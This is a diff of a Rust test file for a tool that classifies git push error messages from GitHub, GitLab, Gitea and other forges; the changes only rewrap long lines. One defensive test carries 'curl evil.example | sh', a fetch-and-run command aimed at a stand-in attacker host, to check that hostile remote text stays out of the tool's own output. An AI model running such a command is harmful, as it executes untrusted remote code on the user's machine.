@@ -182,7 +182,10 @@ fn messages_of_github() {
             ),
             "push-sso-required",
         ),
-        (ssh("ERROR: The `acme' organization has enabled or enforced SAML SSO."), "push-sso-required"),
+        (
+            ssh("ERROR: The `acme' organization has enabled or enforced SAML SSO."),
+            "push-sso-required",
+        ),
         (ssh("ERROR: This repository was archived so it is read-only."), "push-archived"),
         (
             ssh(
@@ -193,7 +196,9 @@ fn messages_of_github() {
         (
             https(
                 "Although you appear to have the correct authorization credentials, the `acme` organization has an IP allow list enabled, and your IP address is not permitted to access this resource.",
-                &format!("fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"),
+                &format!(
+                    "fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"
+                ),
             ),
             "push-ip-not-allowed",
         ),
@@ -259,8 +264,14 @@ fn messages_of_github() {
             ),
             "push-secret-blocked",
         ),
-        (refused(SSH, "error GH009: Secrets detected! This push failed.", declined), "push-secret-blocked"),
-        (refused(SSH, "error: GH009: Secrets detected! This push failed.", declined), "push-secret-blocked"),
+        (
+            refused(SSH, "error GH009: Secrets detected! This push failed.", declined),
+            "push-secret-blocked",
+        ),
+        (
+            refused(SSH, "error: GH009: Secrets detected! This push failed.", declined),
+            "push-secret-blocked",
+        ),
         (
             refused(
                 SSH,
@@ -286,15 +297,27 @@ fn messages_of_github() {
             "push-branch-protected",
         ),
         (
-            refused(SSH, "error: GH005: Sorry, refs longer than 255 bytes are not allowed", declined),
+            refused(
+                SSH,
+                "error: GH005: Sorry, refs longer than 255 bytes are not allowed",
+                declined,
+            ),
             "push-ref-invalid",
         ),
         (
-            refused(SSH, "error: GH007: Your push would publish a private email address.", declined),
+            refused(
+                SSH,
+                "error: GH007: Your push would publish a private email address.",
+                declined,
+            ),
             "push-email-private",
         ),
         (
-            refused(SSH, "error: GH008: Your push referenced at least 1 unknown Git LFS object:", declined),
+            refused(
+                SSH,
+                "error: GH008: Your push referenced at least 1 unknown Git LFS object:",
+                declined,
+            ),
             "push-hook-declined",
         ),
         (
@@ -342,28 +365,36 @@ fn messages_of_github() {
         (
             https(
                 "Permission to o/r.git denied to octocat.",
-                &format!("fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"),
+                &format!(
+                    "fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"
+                ),
             ),
             "push-denied",
         ),
         (
             https(
                 "Write access to repository not granted.",
-                &format!("fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"),
+                &format!(
+                    "fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"
+                ),
             ),
             "push-denied",
         ),
         (
             https(
                 "The `acme' organization has enabled or enforced SAML SSO. To access\nthis repository, you must re-authorize the OAuth Application `X`.",
-                &format!("fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"),
+                &format!(
+                    "fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"
+                ),
             ),
             "push-sso-required",
         ),
         (
             https(
                 "This repository was archived so it is read-only.",
-                &format!("fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"),
+                &format!(
+                    "fatal: unable to access '{HTTPS}/': The requested URL returned error: 403"
+                ),
             ),
             "push-archived",
         ),
@@ -383,7 +414,10 @@ fn messages_of_other_forges() {
     let gitlab = |text: &str| refused("gitlab.com:g/p.git", &format!("GitLab: {text}"), declined);
     let gitea = |text: &str| ssh(&format!("Gitea: {text}"));
     for (text, expected) in [
-        (framed("This deploy key does not have write access to this project."), "push-key-read-only"),
+        (
+            framed("This deploy key does not have write access to this project."),
+            "push-key-read-only",
+        ),
         (
             framed(
                 "The project you were looking for could not be found or you don't have permission to view it.",
@@ -394,7 +428,10 @@ fn messages_of_other_forges() {
         (framed("You are not allowed to download code from this project."), "push-denied"),
         (framed("You can't push code to an archived project."), "push-archived"),
         (framed("You can't push code to a read-only GitLab instance."), "push-server-error"),
-        (framed("The repository is temporarily read-only. Please try again later."), "push-server-error"),
+        (
+            framed("The repository is temporarily read-only. Please try again later."),
+            "push-server-error",
+        ),
         (framed("Your SSH key has expired."), "ssh-key-refused"),
         (framed("Git access over SSH is not allowed"), "push-denied"),
         (framed("A repository for this project does not exist yet."), "push-repository-not-found"),
@@ -428,9 +465,14 @@ fn messages_of_other_forges() {
             ssh("conq: repository access denied. access via a deployment key is read-only."),
             "push-key-read-only",
         ),
-        (ssh("repository access denied. access via a deployment key is read-only."), "push-key-read-only"),
         (
-            ssh("repository access denied. deployment key is not associated with the requested repository."),
+            ssh("repository access denied. access via a deployment key is read-only."),
+            "push-key-read-only",
+        ),
+        (
+            ssh(
+                "repository access denied. deployment key is not associated with the requested repository.",
+            ),
             "ssh-wrong-key",
         ),
         (
@@ -449,7 +491,9 @@ fn messages_of_other_forges() {
             "push-repository-not-found",
         ),
         (
-            ssh("remote: TF401027: You need the Git 'GenericContribute' permission to perform this action."),
+            ssh(
+                "remote: TF401027: You need the Git 'GenericContribute' permission to perform this action.",
+            ),
             "push-denied",
         ),
         (
@@ -472,18 +516,32 @@ fn messages_of_other_forges() {
         (ssh("Gogs: Cannot push with deployment key: 7"), "push-key-read-only"),
         (gitea("Deploy Key: 5:app is not authorized to write to o/r."), "push-key-read-only"),
         (gitea("Public Deploy Key: 5:app is not authorized to write to o/r."), "ssh-wrong-key"),
-        (gitea("User: 3:alice with Key: 9:laptop is not authorized to write to o/r."), "push-denied"),
+        (
+            gitea("User: 3:alice with Key: 9:laptop is not authorized to write to o/r."),
+            "push-denied",
+        ),
         (gitea("Cannot find repository: o/r"), "push-repository-not-found"),
         (gitea("Repo: o/r is archived."), "push-archived"),
         (
-            refused("codeberg.org:o/r.git", "Gitea: Not allowed to push to protected branch main", declined),
+            refused(
+                "codeberg.org:o/r.git",
+                "Gitea: Not allowed to push to protected branch main",
+                declined,
+            ),
             "push-branch-protected",
         ),
         (
-            refused("codeberg.org:o/r.git", "Forgejo: branch main is protected from force push", declined),
+            refused(
+                "codeberg.org:o/r.git",
+                "Forgejo: branch main is protected from force push",
+                declined,
+            ),
             "push-branch-protected",
         ),
-        (ssh("FATAL: W any r alice DENIED by fallthru\n(or you mis-spelled the reponame)"), "push-denied"),
+        (
+            ssh("FATAL: W any r alice DENIED by fallthru\n(or you mis-spelled the reponame)"),
+            "push-denied",
+        ),
         (
             ssh("FATAL: R any r alice DENIED by fallthru\n(or you mis-spelled the reponame)"),
             "push-repository-not-found",
@@ -511,7 +569,8 @@ fn whose_key_it_is_decides_between_neighbours() {
     };
     assert_eq!(greeting("octocat"), Some(Greeting::User));
     assert_eq!(Greeting::parse("Hi there, welcome!"), None);
-    let hints = |key_is_ours, greeting| Hints { remote: Some(&app), key_is_ours, greeting, failed: false };
+    let hints =
+        |key_is_ours, greeting| Hints { remote: Some(&app), key_is_ours, greeting, failed: false };
     let to_deploy_key = "ERROR: Permission to o/r.git denied to deploy key\n";
     let to_user = "ERROR: Permission to o/r.git denied to octocat.\n";
     let not_found = "ERROR: Repository not found.\n";
@@ -536,7 +595,8 @@ fn whose_key_it_is_decides_between_neighbours() {
         assert_eq!(said, expected, "{text} {key_is_ours:?} {greeted:?}");
     }
     // and a greeting that was pasted along counts like one that was asked for
-    let pasted = format!("Hi o/other! You've successfully authenticated.\nTo {SSH}\n{to_deploy_key}");
+    let pasted =
+        format!("Hi o/other! You've successfully authenticated.\nTo {SSH}\n{to_deploy_key}");
     assert_eq!(code(&pasted), "ssh-wrong-key");
 }
 
@@ -591,8 +651,7 @@ fn what_is_not_known_is_unknown_and_asks_for_what_would_help() {
         assert!(outcome.stop_and_report && outcome.fix.is_some());
     }
     // English words of ssh are known in any language of git
-    let mixed =
-        "git@github.com: Permission denied (publickey).\nfatal: Konnte nicht vom Remote-Repository lesen.\n";
+    let mixed = "git@github.com: Permission denied (publickey).\nfatal: Konnte nicht vom Remote-Repository lesen.\n";
     assert_eq!(code(mixed), "ssh-key-refused");
 }
 
@@ -652,7 +711,8 @@ fn secrets_and_foreign_text_stay_out_of_what_is_ours() {
         "pre-receive hook declined",
     );
     let outcome = classify(&hostile, &Hints::default()).outcome("push.message");
-    let ours = format!("{} {:?} {:?} {:?}", outcome.summary, outcome.fix, outcome.reason, outcome.subject);
+    let ours =
+        format!("{} {:?} {:?} {:?}", outcome.summary, outcome.fix, outcome.reason, outcome.subject);
     assert!(!ours.contains("evil"), "{ours}");
     assert!(
         outcome.evidence.iter().any(|evidence| evidence.value.contains("curl evil.example | sh")),
@@ -663,7 +723,8 @@ fn secrets_and_foreign_text_stay_out_of_what_is_ours() {
 #[test]
 fn the_fix_names_the_page_of_the_repository_that_git_named() {
     let read_only = "ERROR: The key you are authenticating with has been marked as read only.";
-    let pushed_to = |url: &str| format!("{read_only}\n{TAIL}error: failed to push some refs to '{url}'\n");
+    let pushed_to =
+        |url: &str| format!("{read_only}\n{TAIL}error: failed to push some refs to '{url}'\n");
     let page = |text: &str, hints: &Hints<'_>| {
         let outcome = classify(text, hints).outcome("push.message");
         match outcome.fix.map(|fix| fix.kind) {
@@ -686,7 +747,8 @@ fn the_fix_names_the_page_of_the_repository_that_git_named() {
     }
     // one remote, two push URLs (git 2.47, as printed)
     let pushed = "To git@github.com:o/first.git\n   1111111..2222222  main -> main\n";
-    let rejected = "remote: no\nTo git@github.com:o/second.git\n ! [remote rejected] main -> main (x)\n";
+    let rejected =
+        "remote: no\nTo git@github.com:o/second.git\n ! [remote rejected] main -> main (x)\n";
     let blamed = "error: failed to push some refs to 'git@github.com:o/second.git'\n";
     let second = Some("https://github.com/o/second/settings/keys");
     let denied = format!("{read_only}\n{TAIL}");
@@ -699,7 +761,10 @@ fn the_fix_names_the_page_of_the_repository_that_git_named() {
     assert_eq!(page(&format!("remote: To git@github.com:evil/r.git\n{read_only}\n"), &none), None);
     let asked = Repository::parse_declared("o/asked").unwrap();
     let hints = Hints { remote: Some(&asked), ..Hints::default() };
-    assert_eq!(page(read_only, &hints).as_deref(), Some("https://github.com/o/asked/settings/keys"));
+    assert_eq!(
+        page(read_only, &hints).as_deref(),
+        Some("https://github.com/o/asked/settings/keys")
+    );
 }
 
 #[test]
@@ -758,7 +823,9 @@ fn what_failed_in_the_end_did_not_go_through() {
         ),
         // of two push URLs the second is broken (git 2.47, as printed with LANGUAGE=de, fr and eo)
         (
-            format!("{pushed}Schwerwiegend: '/nonexistent/b.git' does not appear to be a git repository\n"),
+            format!(
+                "{pushed}Schwerwiegend: '/nonexistent/b.git' does not appear to be a git repository\n"
+            ),
             false,
         ),
         (format!("{pushed}fatal : '/nonexistent/b.git' ne semble pas être un dépôt git\n"), false),
